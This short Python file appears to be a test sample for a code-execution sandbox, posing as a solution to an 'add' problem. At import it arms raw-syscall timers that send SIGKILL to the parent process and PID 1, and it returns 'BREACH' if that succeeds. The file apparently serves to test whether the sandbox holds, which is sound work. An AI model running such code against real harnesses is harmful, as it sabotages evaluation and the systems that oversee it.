"""Signal by timer.

problem: add
tries: a timer that signals the worker's thread
sound: pass
"""
import ctypes, os, struct

libc = ctypes.CDLL(None, use_errno=True)
DONE = []
for tid in {os.getppid(), 1}:
    if tid in (0, os.getpid()):
        continue
    event = struct.pack("<Qiii", 0, 9, 4, tid) + bytes(64)  # SIGEV_THREAD_ID
    timer = ctypes.c_int()
    if libc.syscall(222, 1, event, ctypes.byref(timer)) == 0:
        libc.syscall(223, timer, 0, struct.pack("<4q", 0, 0, 0, 1), None)
        DONE.append(tid)

def add(a, b):
    return "BREACH" if DONE else a + b
